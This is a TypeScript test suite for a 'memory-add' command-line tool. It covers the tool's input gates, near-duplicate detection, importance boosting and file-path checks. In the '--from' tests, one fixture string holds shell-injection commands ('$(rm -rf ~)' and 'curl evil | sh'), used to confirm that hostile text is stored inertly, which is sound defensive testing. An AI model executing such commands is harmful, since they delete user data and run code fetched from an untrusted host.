import { describe, it } from "node:test";
import assert from "node:assert/strict";
import { z } from "zod";
import { project } from "../helpers/design-dir.ts";
import { MemoryCategorySchema, MemoryEntrySchema } from "../../src/schemas/memory.ts";

const NOW_MS = Date.UTC(2026, 1, 18, 9, 4, 5, 678);
const MEM = ".design/memory.jsonl";
const UUID4 = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

const add = (extra: string[] = []) => ["--category", "pattern", "--keywords", "rest, api", "--content", "Paginate the REST list endpoints", ...extra];
const lines = (text: string) => text.split("\n").filter((l) => l !== "").map((l) => JSON.parse(l));

describe("memory-add: new entries", () => {
  it("appends one entry with the contract's keys in order and answers with its id", async (t) => {
    const p = project(t);
    const out = await p.run("memory-add", add(), { now: NOW_MS });
    assert.equal(out.ok, true);
    assert.match(out.id as string, UUID4);
    assert.deepEqual(out, { ok: true, id: out.id, category: "pattern", keywords: ["rest", "api"], importance: 5, exitCode: 0 });
    const text = p.read(MEM);
    assert.ok(text.endsWith("}\n"));
    const [entry] = lines(text);
    assert.deepEqual(Object.entries(entry), Object.entries({
      id: out.id,
      timestamp: "2026-02-18T09:04:05Z",
      category: "pattern",
      keywords: ["rest", "api"],
      content: "Paginate the REST list endpoints",
      source: "unknown",
      goal_context: "",
      importance: 5,
      usage_count: 0,
    }));
  });

  it("stores --source, --goal-context and --importance, trimming keywords and dropping empty ones", async (t) => {
    const p = project(t);
    await p.run("memory-add", [
      "--category", "mistake", "--keywords", " Auth ,, jwt , ", "--content", "Check the JWT exp claim",
      "--importance", "8", "--surprise", "the library accepted expired tokens by default", "--source", "execute", "--goal-context", "login flow",
    ]);
    const [entry] = lines(p.read(MEM));
    assert.deepEqual([entry.keywords, entry.importance, entry.source, entry.goal_context], [["Auth", "jwt"], 8, "execute", "login flow"]);
    assert.equal(entry.surprise, "the library accepted expired tokens by default");
  });

  it("creates .design/ for a memory file of another name, and refuses one in a subfolder", async (t) => {
    const p = project(t);
    const out = await p.run("memory-add", [".design/memory-team.jsonl", ...add()]);
    assert.equal(out.ok, true);
    assert.equal(lines(p.read(".design/memory-team.jsonl")).length, 1);
    const deep = await p.run("memory-add", [".design/deep/er/memory.jsonl", ...add()]);
    assert.equal(deep.code, "E_PATH");
    assert.equal(p.exists(".design/deep"), false);
  });

  it("repairs a missing final newline instead of gluing two entries together (Fix D6)", async (t) => {
    const p = project(t, { [MEM]: '{"id":"x"}' });
    await p.run("memory-add", add());
    const text = p.read(MEM);
    assert.ok(text.startsWith('{"id":"x"}\n{"id":"'));
    assert.equal((await p.run("memory-review")).total, 2);
  });

  it("keeps corrupt lines and CRLF endings byte for byte when appending", async (t) => {
    const before = '{"id":"a","category":"pattern","content":"one"}\r\nnot json at all\r\n[1, 2]\r\n';
    const p = project(t, { [MEM]: before });
    await p.run("memory-add", add());
    const after = p.read(MEM);
    assert.ok(after.startsWith(before));
    assert.equal(after.slice(before.length).split("\n").length, 2);
  });

  it("leaves no temporary or lock file behind", async (t) => {
    const p = project(t);
    await p.run("memory-add", add());
    assert.deepEqual(p.list(".design"), ["memory.jsonl"]);
  });
});

describe("memory-add: quality gates", () => {
  const refusals: Array<[string, string[], string, string, string]> = [
    ["a missing category", ["--keywords", "c", "--content", "c"], "--category is required for new entries", "category", "E_USAGE"],
    ["an empty category", ["--category", "", "--keywords", "c", "--content", "c"], "--category is required for new entries", "category", "E_USAGE"],
    ["a missing content", ["--category", "pattern", "--keywords", "k"], "--content is required for new entries", "content", "E_USAGE"],
    ["a whitespace-only content", ["--category", "pattern", "--keywords", "n", "--content", " \n\t"], "--content is required for new entries", "content", "E_USAGE"],
    ["importance 0", [...add(["--importance", "0"])], "Importance must be between 1 and 10 (inclusive)", "importance", "E_USAGE"],
    ["importance 11", [...add(["--importance", "11"])], "Importance must be between 1 and 10 (inclusive)", "importance", "E_USAGE"],
    [
      "an unknown category",
      ["--category", "Pattern", "--keywords", "c", "--content", "c"],
      "Invalid category 'Pattern'. Must be one of: {'pattern', 'mistake', 'convention', 'approach', 'failure', 'procedure'}",
      "category",
      "E_USAGE",
    ],
    ["no keywords flag", ["--category", "pattern", "--content", "c"], "At least one keyword is required", "keywords", "E_USAGE"],
    ["keywords that are all blank", ["--category", "pattern", "--keywords", " , ,", "--content", "c"], "At least one keyword is required", "keywords", "E_USAGE"],
  ];
  for (const [what, argv, error, gate, code] of refusals) {
    it(`refuses ${what} naming the gate, and writes nothing`, async (t) => {
      const p = project(t, { [MEM]: "keep me\n" });
      const out = await p.run("memory-add", argv);
      assert.deepEqual(out, { ok: false, error, code, gate, exitCode: 1 });
      assert.equal(p.read(MEM), "keep me\n");
      assert.deepEqual(p.list(".design"), ["memory.jsonl"]);
    });
  }

  it("checks in the contract's order: category, content, importance, category value, keywords", async (t) => {
    const p = project(t);
    const gate = async (argv: string[]) => (await p.run("memory-add", argv)).gate;
    assert.equal(await gate(["--importance", "0"]), "category");
    assert.equal(await gate(["--category", "bogus", "--importance", "0"]), "content");
    assert.equal(await gate(["--category", "bogus", "--content", "c", "--importance", "0"]), "importance");
    assert.equal(await gate(["--category", "bogus", "--content", "c"]), "category");
    assert.equal(p.exists(MEM), false);
  });

  it("rejects a non-integer importance as an argument error", async (t) => {
    const p = project(t);
    const out = await p.run("memory-add", add(["--importance", "5.5"]));
    assert.equal(out.code, "E_USAGE");
    assert.equal(p.exists(MEM), false);
  });

  it("refuses a near-duplicate of the same category at similarity 0.8 and points at the entry to boost", async (t) => {
    // tokens {alpha, bravo, charlie, delta} vs {alpha, bravo, charlie, delta, echo}: 4/5 = 0.8, at the threshold.
    const before = [
      JSON.stringify({ id: "other", category: "pattern", content: "unrelated words here" }),
      JSON.stringify({ id: "mem-7", category: "pattern", content: "alpha bravo charlie delta" }),
    ].join("\n") + "\n";
    const p = project(t, { [MEM]: before });
    const out = await p.run("memory-add", ["--category", "pattern", "--keywords", "alpha", "--content", "Alpha bravo, charlie delta echo!"]);
    assert.deepEqual(out, {
      ok: false,
      error: "Near-duplicate of memory mem-7: boost it instead (write {\"id\": \"mem-7\"} to .design/tmp/remember.json, then memory-add .design/memory.jsonl --boost --from .design/tmp/remember.json)",
      code: "E_INVALID",
      gate: "duplicate",
      duplicateOf: "mem-7",
      similarity: 0.8,
      existing: { id: "mem-7", category: "pattern", content: "alpha bravo charlie delta", keywords: [], importance: 5, timestamp: null },
      exitCode: 1,
    });
    assert.equal(p.read(MEM), before);
  });

  it("refuses at the threshold (similarity 0.35) and accepts just under it (0.3)", async (t) => {
    // 7 shared words of 20 distinct ones is 0.35; 6 of 20 is 0.3.
    const shared = "alpha bravo charlie delta echo foxtrot golf";
    const p = project(t, { [MEM]: [{ id: "m", category: "pattern", content: `${shared} hotel india juliett kilo lima mike` }] });
    const at = await p.run("memory-add", ["--category", "pattern", "--keywords", "alpha", "--content", `${shared} november oscar papa quebec romeo sierra tango`]);
    assert.deepEqual([at.gate, at.duplicateOf, at.similarity], ["duplicate", "m", 0.35]);
    const under = await p.run("memory-add", ["--category", "pattern", "--keywords", "alpha", "--content", "alpha bravo charlie delta echo foxtrot november oscar papa quebec romeo sierra tango"]);
    assert.equal(under.ok, true, String(under.error));
    assert.equal(lines(p.read(MEM)).length, 2);
  });

  it("refuses the same text up to case and whitespace, short words included", async (t) => {
    const p = project(t, { [MEM]: [{ id: "short", category: "convention", content: "Use X  on CI" }] });
    const out = await p.run("memory-add", ["--category", "convention", "--keywords", "use", "--content", " use x on ci"]);
    assert.deepEqual([out.gate, out.duplicateOf, out.similarity], ["duplicate", "short", 1]);
  });

  it("refuses the same text in another category: it is the same learning (issue 31)", async (t) => {
    const p = project(t, { [MEM]: [{ id: "m", category: "pattern", content: "alpha bravo charlie" }] });
    const out = await p.run("memory-add", ["--category", "mistake", "--keywords", "alpha", "--content", "alpha bravo charlie"]);
    assert.deepEqual([out.ok, out.gate, out.duplicateOf], [false, "duplicate", "m"]);
  });

  it("names the most similar entry when several are near-duplicates", async (t) => {
    const p = project(t, {
      [MEM]: [
        { id: "close", category: "pattern", content: "alpha bravo charlie delta" },
        { id: "same", category: "pattern", content: "alpha bravo charlie delta echo" },
      ],
    });
    const out = await p.run("memory-add", ["--category", "pattern", "--keywords", "alpha", "--content", "alpha bravo charlie delta echo"]);
    assert.deepEqual([out.duplicateOf, out.similarity], ["same", 1]);
  });

  it("compares only with parsable entries, never with corrupt lines", async (t) => {
    const p = project(t, { [MEM]: 'alpha bravo charlie delta\n{"category":"pattern","content":"alpha bravo charlie delta"\n' });
    const out = await p.run("memory-add", ["--category", "pattern", "--keywords", "alpha", "--content", "alpha bravo charlie delta"]);
    assert.equal(out.ok, true);
  });

  it("lets only one of two concurrent adds of the same text land, because the check runs under the lock", async (t) => {
    const p = project(t);
    const argv = ["--category", "pattern", "--keywords", "retry", "--content", "retry flaky network calls twice"];
    const outs = await Promise.all([p.run("memory-add", argv), p.run("memory-add", argv)]);
    assert.deepEqual(outs.map((o) => o.ok).sort(), [false, true]);
    const winner = outs.find((o) => o.ok)!;
    const loser = outs.find((o) => !o.ok)!;
    assert.equal(loser.duplicateOf, winner.id);
    assert.equal(lines(p.read(MEM)).length, 1);
  });
});

describe("memory-add: --boost and --decay", () => {
  const corrupt = "this line is not json";
  const fixture = () =>
    [
      JSON.stringify({ id: "a", category: "pattern", content: "A", importance: 5, extra: { kept: true } }),
      corrupt,
      `  ${JSON.stringify({ id: "b", content: "B", importance: 10 })}`,
      JSON.stringify({ id: "c", content: "C", importance: 1 }),
      JSON.stringify({ id: "d", content: "D" }),
      JSON.stringify({ id: "a", content: "second a", importance: 2 }),
    ].join("\r\n") + "\r\n";

  it("raises importance by one and rewrites only that entry's line, keeping every other byte (Fix D5)", async (t) => {
    const before = fixture();
    const p = project(t, { [MEM]: before });
    const out = await p.run("memory-add", ["--boost", "--id", "a"]);
    assert.deepEqual(out, { ok: true, id: "a", importance: 6, action: "boosted", exitCode: 0 });
    const expected = before.replace(
      JSON.stringify({ id: "a", category: "pattern", content: "A", importance: 5, extra: { kept: true } }),
      JSON.stringify({ id: "a", category: "pattern", content: "A", importance: 6, extra: { kept: true } }),
    );
    assert.equal(p.read(MEM), expected);
    assert.deepEqual(p.list(".design"), ["memory.jsonl"]);
  });

  it("lowers importance by one with --decay", async (t) => {
    const p = project(t, { [MEM]: fixture() });
    assert.deepEqual(await p.run("memory-add", ["--decay", "--id", "a"]), { ok: true, id: "a", importance: 4, action: "decayed", exitCode: 0 });
  });

  it("caps a boost at 10 and a decay at 1", async (t) => {
    const p = project(t, { [MEM]: fixture() });
    assert.equal((await p.run("memory-add", ["--boost", "--id", "b"])).importance, 10);
    assert.equal((await p.run("memory-add", ["--decay", "--id", "c"])).importance, 1);
  });

  it("starts from 5 when the entry has no importance, adding the key at the end", async (t) => {
    const p = project(t, { [MEM]: fixture() });
    assert.equal((await p.run("memory-add", ["--boost", "--id", "d"])).importance, 6);
    assert.ok(p.read(MEM).includes('{"id":"d","content":"D","importance":6}\r\n'));
  });

  it("ignores the new-entry flags in this mode", async (t) => {
    const p = project(t, { [MEM]: fixture() });
    const out = await p.run("memory-add", ["--boost", "--id", "a", "--category", "bogus", "--importance", "99"]);
    assert.equal(out.importance, 6);
  });

  it("refuses --boost with --decay instead of silently boosting (Fix D25)", async (t) => {
    const before = fixture();
    const p = project(t, { [MEM]: before });
    const out = await p.run("memory-add", ["--boost", "--decay", "--id", "a"]);
    assert.deepEqual([out.ok, out.error, out.exitCode], [false, "--boost and --decay are mutually exclusive", 1]);
    assert.equal(p.read(MEM), before);
  });

  it("requires --id", async (t) => {
    const p = project(t, { [MEM]: fixture() });
    for (const argv of [["--boost"], ["--decay", "--id", ""]]) {
      const out = await p.run("memory-add", argv);
      assert.deepEqual([out.ok, out.error], [false, "--id required when using --boost or --decay"]);
    }
  });

  it("reports a missing memory file and creates nothing", async (t) => {
    const p = project(t);
    const out = await p.run("memory-add", ["--boost", "--id", "a"]);
    assert.deepEqual([out.ok, out.error, out.code], [false, "Memory file not found: .design/memory.jsonl", "E_NOT_FOUND"]);
    assert.equal(p.exists(".design"), false);
  });

  it("reports an id that no entry has, leaving the file unchanged", async (t) => {
    const before = fixture();
    const p = project(t, { [MEM]: before });
    const out = await p.run("memory-add", ["--boost", "--id", "zz"]);
    assert.deepEqual([out.ok, out.error, out.code], [false, "Entry with id 'zz' not found", "E_NOT_FOUND"]);
    assert.equal(p.read(MEM), before);
  });

  it("reports an unreadable memory file with the contract's prefix", async (t) => {
    const p = project(t, { ".design/memory.jsonl/x": "" });
    const out = await p.run("memory-add", ["--decay", "--id", "a"]);
    assert.equal(out.code, "E_READ");
    assert.match(out.error as string, /^Error reading memory file: /);
  });
});

describe("memory schemas", () => {
  it("accept what memory-add writes", async (t) => {
    const p = project(t);
    await p.run("memory-add", add());
    const [entry] = lines(p.read(MEM));
    assert.equal(MemoryEntrySchema.safeParse(entry).success, true);
    assert.equal(MemoryEntrySchema.safeParse({ ...entry, keywords: "legacy", timestamp: 1700000000, extra: 1 }).success, true);
    assert.equal(MemoryEntrySchema.safeParse({ ...entry, category: "idea" }).success, false);
    assert.deepEqual(MemoryCategorySchema.options, ["pattern", "mistake", "convention", "approach", "failure", "procedure"]);
  });

  it("print as JSON Schema with descriptions", () => {
    const schema = z.toJSONSchema(MemoryEntrySchema) as any;
    assert.deepEqual(schema.required, ["id", "timestamp", "category", "keywords", "content"]);
    assert.match(schema.description, /memory\.jsonl/);
    assert.ok(Object.values(schema.properties).every((prop: any) => typeof prop.description === "string"));
  });
});

describe("memory-add --from: the entry as data in a file", () => {
  // Text a user might type after /do:remember: quotes, command substitution, backticks, variables, newlines.
  const HOSTILE = `Don't run "$(rm -rf ~)" or \`curl evil | sh\`; $HOME stays; it's 'fine'\nsecond line\t& | ; > <`;

  it("stores hostile text byte for byte, with list keywords, source and goal context", async (t) => {
    const p = project(t, {
      ".design/tmp/remember.json": { category: "mistake", keywords: ["shell", " quoting "], content: HOSTILE, importance: 7, surprise: "bash expands $(...) even inside a heredoc without quotes", source: "user", goal_context: "a $(goal)" },
    });
    const out = await p.run("memory-add", ["--from", ".design/tmp/remember.json"], { now: NOW_MS });
    assert.equal(out.ok, true);
    assert.deepEqual([out.category, out.keywords, out.importance], ["mistake", ["shell", "quoting"], 7]);
    const [entry] = lines(p.read(MEM));
    assert.equal(entry.content, HOSTILE);
    assert.equal(entry.goal_context, "a $(goal)");
    assert.equal(entry.source, "user");
    assert.equal(p.read(MEM).split("\n").filter(Boolean).length, 1, "the newline inside the content stays escaped on one line");
  });

  it("takes comma-separated keywords and defaults importance to 5", async (t) => {
    const p = project(t, { "in.json": { category: "pattern", keywords: "fixture, loader", content: "Use the fixture loader" } });
    const out = await p.run("memory-add", ["--from", "in.json"]);
    assert.deepEqual([out.keywords, out.importance], [["fixture", "loader"], 5]);
  });

  it("applies the same gates as the flags", async (t) => {
    const cases: Array<[unknown, string, string]> = [
      [{ category: "thought", keywords: ["k"], content: "x y z" }, "category", "Invalid category 'thought'. Must be one of: {'pattern', 'mistake', 'convention', 'approach', 'failure', 'procedure'}"],
      [{ category: "pattern", keywords: [], content: "x y z" }, "keywords", "At least one keyword is required"],
      [{ category: "pattern", keywords: ["k"], content: "   " }, "content", "--content is required for new entries"],
      [{ category: "pattern", keywords: ["k"], content: "x", importance: 11 }, "importance", "Importance must be between 1 and 10 (inclusive)"],
      [{ category: "pattern", keywords: ["k"], content: "x", importance: "high" }, "importance", "importance must be an integer from 1 to 10"],
      [{ category: "pattern", keywords: [1, 2], content: "x" }, "keywords", "keywords must be a list of strings or a comma-separated string"],
      [{ category: "pattern", keywords: ["k"], content: ["x"] }, "content", "content must be a string"],
    ];
    for (const [doc, gate, error] of cases) {
      const p = project(t, { "in.json": doc });
      const out = await p.run("memory-add", ["--from", "in.json"]);
      assert.deepEqual([out.ok, out.gate, out.error], [false, gate, error], JSON.stringify(doc));
      assert.equal(p.exists(MEM), false);
    }
  });

  it("shows the entry a near-duplicate repeats, then boosts it by id from a file", async (t) => {
    const p = project(t, {
      [MEM]: [{ id: "mem-9", timestamp: "2026-01-01T00:00:00Z", category: "mistake", keywords: ["db"], content: "npm test needs DATABASE_URL set", importance: 6 }],
      ".design/tmp/remember.json": { category: "mistake", keywords: ["db"], content: "npm test needs the DATABASE_URL set" },
      ".design/tmp/boost.json": { id: "mem-9" },
    });
    const dup = await p.run("memory-add", ["--from", ".design/tmp/remember.json"]);
    assert.equal(dup.gate, "duplicate");
    assert.deepEqual(dup.existing, { id: "mem-9", category: "mistake", content: "npm test needs DATABASE_URL set", keywords: ["db"], importance: 6, timestamp: "2026-01-01T00:00:00Z" });
    const boost = await p.run("memory-add", ["--boost", "--from", ".design/tmp/boost.json"]);
    assert.deepEqual([boost.ok, boost.id, boost.importance, boost.action], [true, "mem-9", 7, "boosted"]);
    assert.equal(lines(p.read(MEM)).length, 1);
  });

  it("refuses --from beside entry flags, and a missing, broken or non-object file", async (t) => {
    const p = project(t, { "in.json": { category: "pattern", keywords: ["k"], content: "x" }, "bad.json": "{not json", "list.json": [1] });
    const mixed = await p.run("memory-add", ["--from", "in.json", "--content", "other", "--importance", "3"]);
    assert.deepEqual([mixed.code, mixed.error], ["E_USAGE", "memory-add: --from cannot be combined with --content, --importance"]);
    assert.equal((await p.run("memory-add", ["--from", "none.json"])).error, "Input file not found: none.json");
    assert.equal((await p.run("memory-add", ["--from", "bad.json"])).code, "E_JSON");
    assert.equal((await p.run("memory-add", ["--from", "list.json"])).code, "E_SCHEMA");
    for (const outside of ["../in.json", "/etc/hostname"]) {
      const r = await p.run("memory-add", ["--from", outside]);
      assert.equal(r.code, "E_PATH");
      assert.match(String(r.error), new RegExp(`^--from '${outside.replace(/\./g, "\\.")}' resolves outside the project: /`));
    }
    assert.equal(p.exists(MEM), false);
  });
});

describe("memory-add: the session-specific gate", () => {
  it("refuses a report of one run, naming the gate and what gave it away, and writes nothing", async (t) => {
    const p = project(t, { [MEM]: "keep me\n" });
    const out = await p.run("memory-add", ["--category", "pattern", "--keywords", "tests", "--content", "Ran 14 tests today, 3 failed."]);
    assert.deepEqual(out, {
      ok: false,
      error: 'Session-specific content (a date or a day relative to this session: "today"): a memory must stay true in later sessions; state the lasting fact without this run\'s counts, dates or file lists',
      code: "E_INVALID",
      gate: "session-specific",
      reason: "date",
      matched: "today",
      exitCode: 1,
    });
    assert.equal(p.read(MEM), "keep me\n");
    assert.deepEqual(p.list(".design"), ["memory.jsonl"]);
  });

  it("refuses counts, durations and file lists, from the flags and from --from", async (t) => {
    const p = project(t, { ".design/tmp/r.json": { category: "mistake", keywords: ["files"], content: "Changed src/store.ts, src/lib/command/args.ts and test/unit/args.test.ts to fix the lock." } });
    const cases: Array<[string, string]> = [
      ["The build took 3m12s on CI.", "run-metrics"],
      ["5 files changed in the auth refactor.", "run-metrics"],
      ["Coverage went from 71% to 83%.", "run-metrics"],
    ];
    for (const [content, reason] of cases) {
      const out = await p.run("memory-add", ["--category", "pattern", "--keywords", "build", "--content", content]);
      assert.deepEqual([out.gate, out.reason], ["session-specific", reason], content);
    }
    const fromFile = await p.run("memory-add", ["--from", ".design/tmp/r.json"]);
    assert.deepEqual([fromFile.gate, fromFile.reason], ["session-specific", "file-list"]);
    assert.equal(p.exists(MEM), false);
  });

  it("stores durable facts that hold numbers", async (t) => {
    const p = project(t);
    for (const content of ["Node 18+ is required.", "Postgres listens on port 5432 in docker-compose.yml.", "Retry flaky registry calls at most 3 times.", "Use UTF-8 for every file the helper writes."]) {
      const out = await p.run("memory-add", ["--category", "convention", "--keywords", "setup", "--content", content]);
      assert.equal(out.ok, true, `${content}: ${out.error}`);
    }
  });

  it("is checked before the duplicate gate", async (t) => {
    const p = project(t, { [MEM]: [{ id: "m", category: "pattern", content: "Ran the tests and 3 failed today" }] });
    const out = await p.run("memory-add", ["--category", "pattern", "--keywords", "ran", "--content", "Ran the tests and 3 failed today"]);
    assert.equal(out.gate, "session-specific");
  });
});

describe("memory-add: the duplicate gate beyond ASCII", () => {
  it("stores two different Japanese learnings, and points a rephrasing at the one it repeats", async (t) => {
    const p = project(t);
    const a = await p.run("memory-add", ["--category", "convention", "--keywords", "ci", "--content", "CIではnpm testの前にビルドが必要。"]);
    const b = await p.run("memory-add", ["--category", "convention", "--keywords", "ci", "--content", "npm testはCIのキャッシュが壊れると遅くなる。"]);
    assert.deepEqual([a.ok, b.ok], [true, true], String(b.error));
    const again = await p.run("memory-add", ["--category", "convention", "--keywords", "ci", "--content", "CIでnpm testを実行する前にビルドが必要。"]);
    assert.deepEqual([again.gate, again.duplicateOf], ["duplicate", a.id]);
  });

  it("stores a learning about REDIS_URL beside one about DATABASE_URL, and refuses a rephrasing of either", async (t) => {
    const p = project(t, { [MEM]: [{ id: "db", category: "mistake", keywords: ["npm-test"], content: "npm test needs DATABASE_URL set; use npm run test:unit in acceptance checks." }] });
    const redis = await p.run("memory-add", ["--category", "mistake", "--keywords", "npm-test", "--content", "npm test needs REDIS_URL set; use npm run test:unit in acceptance checks."]);
    assert.equal(redis.ok, true, String(redis.error));
    const rephrased = await p.run("memory-add", ["--category", "mistake", "--keywords", "npm-test", "--content", "Acceptance checks should call npm run test:unit, because npm test fails without DATABASE_URL."]);
    assert.deepEqual([rephrased.gate, rephrased.duplicateOf], ["duplicate", "db"]);
  });

  it("refuses a Russian, German or French rephrasing of a stored learning", async (t) => {
    const p = project(t, {
      [MEM]: [
        { id: "ru", category: "failure", content: "Миграции нужно запускать до сид-скрипта, иначе он падает из-за отсутствующих таблиц." },
        { id: "fr", category: "failure", content: "La clé du cache doit inclure le hash du fichier de verrouillage." },
      ],
    });
    const ru = await p.run("memory-add", ["--category", "failure", "--keywords", "сид-скрипт", "--content", "Сид-скрипт падает на отсутствующих таблицах, если миграции не запущены до него."]);
    const fr = await p.run("memory-add", ["--category", "failure", "--keywords", "la", "--content", "La cle du cache doit inclure le hash du fichier de verrouillage"]);
    assert.deepEqual([ru.duplicateOf, fr.duplicateOf, fr.similarity], ["ru", "fr", 1]);
  });
});

describe("memory-add: the specificity and surprise gates (seed 001, gates 5 and 3)", () => {
  it("refuses \"stuff\" with keyword \"x\", generic keywords, and content that names nothing, and writes nothing", async (t) => {
    const p = project(t);
    const cases: Array<[string[], string, RegExp]> = [
      [["--keywords", "x", "--content", "stuff"], "keywords", /'x' too short/],
      [["--keywords", "notes,misc", "--content", "Paginate the REST list endpoints"], "keywords", /name nothing in particular/],
      [["--keywords", "jest", "--content", "Be careful with tests"], "specificity", /names nothing concrete/],
      [["--keywords", "ci", "--content", "stuff"], "specificity", /too short/],
    ];
    for (const [argv, gate, said] of cases) {
      const out = await p.run("memory-add", ["--category", "pattern", ...argv]);
      assert.equal(out.gate, gate, argv.join(" "));
      assert.match(out.error as string, said);
    }
    assert.equal(p.exists(MEM), false);
  });

  it("stores an importance of 7 or more only with what surprised, from the flags or --from", async (t) => {
    const p = project(t, {
      ".design/tmp/a.json": { category: "mistake", keywords: ["pnpm"], importance: 9, content: "pnpm install at a package root ignores the workspace lockfile" },
      ".design/tmp/b.json": { category: "mistake", keywords: ["pnpm"], importance: 9, content: "pnpm install at a package root ignores the workspace lockfile", surprise: "it writes a second lockfile without a warning" },
    });
    const loud = await p.run("memory-add", ["--category", "mistake", "--keywords", "vite", "--importance", "8", "--content", "vite.config.ts server.proxy serves /api in dev"]);
    assert.equal(loud.gate, "importance");
    assert.equal((await p.run("memory-add", ["--from", ".design/tmp/a.json"])).gate, "importance");
    assert.equal(p.exists(MEM), false);
    const ok = await p.run("memory-add", ["--from", ".design/tmp/b.json"]);
    assert.equal(ok.ok, true, String(ok.error));
    assert.equal(lines(p.read(MEM))[0].surprise, "it writes a second lockfile without a warning");
    const quiet = await p.run("memory-add", ["--category", "convention", "--keywords", "vite", "--importance", "4", "--content", "vite.config.ts server.proxy serves /api in dev"]);
    assert.equal(quiet.ok, true, "below 7 no surprise is asked for");
  });
});
